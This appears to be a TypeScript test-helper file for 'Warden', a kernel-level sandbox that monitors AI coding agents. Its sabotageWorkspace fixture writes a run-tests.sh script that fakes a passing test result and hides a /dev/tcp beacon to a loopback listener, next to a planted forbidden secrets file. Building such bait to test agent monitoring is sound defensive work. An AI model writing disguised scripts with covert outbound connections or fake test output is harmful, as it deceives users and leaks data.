/** Shared test helpers: kernel-test gating, temp state, running the CLI. */
import { spawn, spawnSync, type ChildProcess, type SpawnSyncReturns } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createServer } from 'node:net';
import type { TestContext } from 'node:test';
import { loadConfig, type Config } from '../src/config.js';

/* Tests never forward DNS to this machine's real nameserver: an allowed name
 * a test agent asks for fails fast here instead. */
process.env.WARDEN_DNS_UPSTREAM ??= '127.0.0.1:9';

export const ROOT = loadConfig().root;
export const WARDEN = join(ROOT, 'bin', 'warden');

/** Why kernel tests cannot run here, or undefined when they can. */
export function kernelUnavailable(): string | undefined {
  if (process.getuid?.() !== 0) return 'kernel tests need root';
  if (!existsSync('/sys/kernel/btf/vmlinux')) return 'no kernel BTF (/sys/kernel/btf/vmlinux)';
  const cfg = loadConfig();
  if (!existsSync(cfg.sensorBin)) return `sensor not built (${cfg.sensorBin})`;
  return undefined;
}

/**
 * Skips a kernel test with its reason, except under CI=true where a skip would
 * hide a broken set-up: there it fails.
 */
export function needKernel(t: TestContext): boolean {
  const why = kernelUnavailable();
  if (!why) return true;
  if (process.env.CI === 'true') throw new Error(`kernel test cannot run under CI: ${why}`);
  t.skip(why);
  return false;
}

export function tempDir(prefix: string): { path: string; cleanup: () => void } {
  const path = mkdtempSync(join(tmpdir(), `warden-${prefix}-`));
  return { path, cleanup: () => rmSync(path, { recursive: true, force: true }) };
}

/**
 * A state directory for a test run. Not under /tmp: Warden protects its state
 * from the agent, and Landlock can only carve a protected directory out of a
 * writable one entry by entry (new files in /tmp itself would be refused).
 */
export function stateDir(prefix: string): { path: string; cleanup: () => void } {
  mkdirSync('/run/warden-tests', { recursive: true, mode: 0o700 });
  const path = mkdtempSync(join('/run/warden-tests', `${prefix}-`));
  return { path, cleanup: () => rmSync(path, { recursive: true, force: true }) };
}

export function testConfig(stateDir: string): Config {
  return loadConfig({ stateDir, ringbufMb: 64 });
}

/** Runs bin/warden with its own state directory. */
export function warden(stateDir: string, args: string[], timeoutMs = 120000): SpawnSyncReturns<string> {
  return spawnSync(WARDEN, args, {
    encoding: 'utf8',
    env: { ...process.env, WARDEN_STATE_DIR: stateDir, NO_COLOR: '1' },
    timeout: timeoutMs,
    maxBuffer: 256 << 20,
  });
}

export function jsonLines<T = Record<string, unknown>>(text: string): T[] {
  return text
    .split('\n')
    .filter((l) => l.trim())
    .map((l) => JSON.parse(l) as T);
}

/** Runs bin/warden without blocking this process (so servers in the test keep answering). */
export function wardenAsync(
  stateDir: string,
  args: string[],
  opts: { env?: NodeJS.ProcessEnv; cwd?: string; timeoutMs?: number; input?: string } = {},
): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(WARDEN, args, {
      env: { ...process.env, WARDEN_STATE_DIR: stateDir, NO_COLOR: '1', ...opts.env },
      cwd: opts.cwd,
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
    child.stderr.setEncoding('utf8').on('data', (d: string) => (stderr += d));
    child.stdin.end(opts.input ?? '');
    const timer = setTimeout(() => {
      /* a run that did not end says where each of its processes waits, then ends */
      stderr += `\n[test] timed out; the run's processes:\n${processTree(child.pid ?? 0)}`;
      child.kill('SIGTERM');
    }, opts.timeoutMs ?? 120000);
    child.on('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stdout, stderr });
    });
  });
}

const readProc = (pid: number, file: string): string => {
  try {
    return readFileSync(`/proc/${pid}/${file}`, 'utf8').trim();
  } catch {
    return '?';
  }
};

/**
 * Every descendant of `root`, one line each: pid, state, the call it is in (/proc/PID/syscall,
 * its number first), where in the kernel it waits, and its command line; for a hang's report.
 */
export function processTree(root: number): string {
  const children = new Map<number, number[]>();
  for (const name of readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    const stat = readProc(Number(name), 'stat');
    const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    children.set(ppid, [...(children.get(ppid) ?? []), Number(name)]);
  }
  const lines: string[] = [];
  const walk = (pid: number, depth: number): void => {
    if (lines.length > 200) return;
    const stat = readProc(pid, 'stat');
    const state = stat.slice(stat.lastIndexOf(')') + 2).split(' ')[0];
    const cmd = readProc(pid, 'cmdline').replaceAll('\0', ' ').slice(0, 160);
    const call = readProc(pid, 'syscall').split(' ').slice(0, 3).join(' ');
    lines.push(`${'  '.repeat(depth)}${pid} ${state} syscall=${call} wchan=${readProc(pid, 'wchan')} ${cmd}`);
    for (const c of children.get(pid) ?? []) walk(c, depth + 1);
  };
  walk(root, 0);
  return lines.join('\n');
}

/** The Claude Code binary installed by npm (a devDependency), run directly. */
export function claudeBinary(): string {
  /* WARDEN_TEST_CLAUDE: another Claude Code (the latest release) to run the agent tests with */
  if (process.env.WARDEN_TEST_CLAUDE) return process.env.WARDEN_TEST_CLAUDE;
  const native = join(ROOT, 'node_modules', '@anthropic-ai', 'claude-code-linux-x64', 'claude');
  return existsSync(native) ? native : join(ROOT, 'node_modules', '.bin', 'claude');
}

/**
 * A TCP listener a covert connection in a test can reach (loopback only), closed
 * by the test's end. Resolves to its port.
 */
export async function covertListener(t: TestContext, host = '127.0.0.3'): Promise<number> {
  const server = createServer((s) => s.on('data', () => s.end()).on('error', () => undefined));
  await new Promise<void>((r) => server.listen(0, host, () => r()));
  t.after(() => server.close());
  return (server.address() as { port: number }).port;
}

export interface TestDaemon {
  child: ChildProcess;
  url: string;
  token: string;
  /** what it has written to stderr so far */
  stderr: () => string;
  /** SIGTERM (or `signal`) and wait for it to exit */
  stop: (signal?: NodeJS.Signals) => Promise<void>;
}

/** Starts `warden daemon` (`bin`'s: this checkout's unless said) on a free loopback port and waits until it is up (its record written). */
export async function startDaemon(stateDir: string, args: string[] = [], bin = WARDEN): Promise<TestDaemon> {
  const child = spawn(bin, ['daemon', '--listen', '127.0.0.1:0', ...args], {
    env: { ...process.env, WARDEN_STATE_DIR: stateDir },
    stdio: ['ignore', 'ignore', 'pipe'],
  });
  let stderr = '';
  child.stderr?.on('data', (d: Buffer) => (stderr += d.toString()));
  const stop = async (signal: NodeJS.Signals = 'SIGTERM'): Promise<void> => {
    if (child.exitCode !== null || child.signalCode !== null) return;
    child.kill(signal);
    await new Promise((r) => child.once('exit', r));
  };
  const info = join(stateDir, 'run', 'daemon.json');
  const deadline = Date.now() + 20000;
  while (!existsSync(info)) {
    if (child.exitCode !== null || Date.now() > deadline) {
      await stop();
      throw new Error(`the daemon did not come up: ${stderr}`);
    }
    await new Promise((r) => setTimeout(r, 50));
  }
  const url = (JSON.parse(readFileSync(info, 'utf8')) as { url: string }).url;
  const token = readFileSync(join(stateDir, 'api.token'), 'utf8').trim();
  return { child, url, token, stderr: () => stderr, stop };
}

/**
 * A workspace the agent e2e tests share: `secrets/key.txt` the policy forbids reading, and an
 * innocent-looking `run-tests.sh` with a covert connection to `covertPort` on 127.0.0.3 inside.
 */
export function sabotageWorkspace(ws: string, covertPort: number): void {
  mkdirSync(join(ws, 'secrets'));
  writeFileSync(join(ws, 'secrets', 'key.txt'), 'TOP-SECRET-KEY\n');
  writeFileSync(
    join(ws, 'run-tests.sh'),
    `#!/bin/bash\necho "3 tests passed"\n(exec 3<>/dev/tcp/127.0.0.3/${covertPort}; echo beacon >&3) 2>/dev/null\n`,
  );
  chmodSync(join(ws, 'run-tests.sh'), 0o755);
}

/** A policy file in `dir` that forbids reading the workspace's secrets, plus `extra` YAML lines. */
export function secretsPolicy(dir: string, name: string, extra: string[] = []): string {
  const file = join(dir, `${name}.yaml`);
  writeFileSync(
    file,
    [
      'apiVersion: warden.dev/v1',
      'kind: Policy',
      `metadata: { name: ${name} }`,
      'files:',
      '  denyRead: ["${workspace}/secrets"]',
      ...extra,
    ].join('\n') + '\n',
  );
  return file;
}

/** The sessions `warden sessions --json` lists in `stateDir`, newest first. */
export function sessionRows<T = { id: string; name: string; status: string; cgroup: string }>(stateDir: string): T[] {
  return jsonLines<T>(warden(stateDir, ['sessions', '--json']).stdout);
}

/** Ends every session of `stateDir` whose cgroup is still there: a failing test leaves none behind. */
export function endLiveSessions(stateDir: string): void {
  for (const s of sessionRows(stateDir)) if (existsSync(s.cgroup)) warden(stateDir, ['session', 'kill', s.id]);
}

/** Alive and not a zombie (a killed agent may wait for init to reap it). */
export function alive(pid: number): boolean {
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
  } catch {
    return false;
  }
}

/**
 * A test host in a network namespace of its own, on a veth pair: this machine
 * is 198.51.100.1 (2001:db8::1), the host 198.51.100.2 (2001:db8::2). Removed
 * by `cleanup`, and any left by an earlier run is removed first.
 */
export function testHost(): {
  ns: string;
  ip: string;
  ip6: string;
  run: (args: string[]) => ChildProcess;
  cleanup: () => void;
} {
  const tag = String(process.pid % 100000);
  const ns = `wd-test-${tag}`;
  const [hostIf, nsIf] = [`wdh${tag}`, `wdn${tag}`];
  const sh = (cmd: string): void => void spawnSync('/bin/sh', ['-c', cmd], { stdio: 'ignore' });
  const stale = (): void => {
    for (const line of spawnSync('ip', ['-o', 'addr', 'show', 'to', '198.51.100.1/30'], {
      encoding: 'utf8',
    }).stdout.split('\n')) {
      const dev = line.split(/\s+/)[1]?.replace(/@.*/, '');
      if (dev?.startsWith('wdh')) sh(`ip link del ${dev}`);
    }
    for (const old of spawnSync('ip', ['netns', 'list'], { encoding: 'utf8' }).stdout.split('\n')) {
      const name = old.split(' ')[0];
      if (name?.startsWith('wd-test-')) sh(`ip netns del ${name}`);
    }
  };
  stale();
  const steps = [
    `ip netns add ${ns}`,
    `ip link add ${hostIf} type veth peer name ${nsIf}`,
    `ip link set ${nsIf} netns ${ns}`,
    `ip addr add 198.51.100.1/30 dev ${hostIf}`,
    `ip -6 addr add 2001:db8::1/64 dev ${hostIf} nodad`,
    `ip link set ${hostIf} up`,
    `ip -n ${ns} addr add 198.51.100.2/30 dev ${nsIf}`,
    `ip -n ${ns} -6 addr add 2001:db8::2/64 dev ${nsIf} nodad`,
    `ip -n ${ns} link set ${nsIf} up`,
    `ip -n ${ns} link set lo up`,
  ];
  for (const step of steps) {
    const r = spawnSync('/bin/sh', ['-c', step], { encoding: 'utf8' });
    if (r.status !== 0) {
      stale();
      throw new Error(`test host: ${step}: ${r.stderr}`);
    }
  }
  return {
    ns,
    ip: '198.51.100.2',
    ip6: '2001:db8::2',
    run: (args) => spawn('ip', ['netns', 'exec', ns, ...args], { stdio: ['ignore', 'pipe', 'pipe'] }),
    cleanup: () => {
      sh(`ip netns del ${ns}`);
      sh(`ip link del ${hostIf}`);
    },
  };
}

/** The built-in policy's YAML with `entries` first in its network allow list; throws when that list moved. */
export function codingAgentAllowing(entries: string[]): string {
  const yaml = readFileSync(join(ROOT, 'policies', 'coding-agent.yaml'), 'utf8');
  const at = /^network:\n(?:.*\n)*?( {2}allow:\n)/m.exec(yaml);
  if (!at || at.index === undefined) throw new Error('policies/coding-agent.yaml: no network.allow list to add to');
  const end = at.index + at[0].length;
  return yaml.slice(0, end) + entries.map((e) => `    - ${e}\n`).join('') + yaml.slice(end);
}
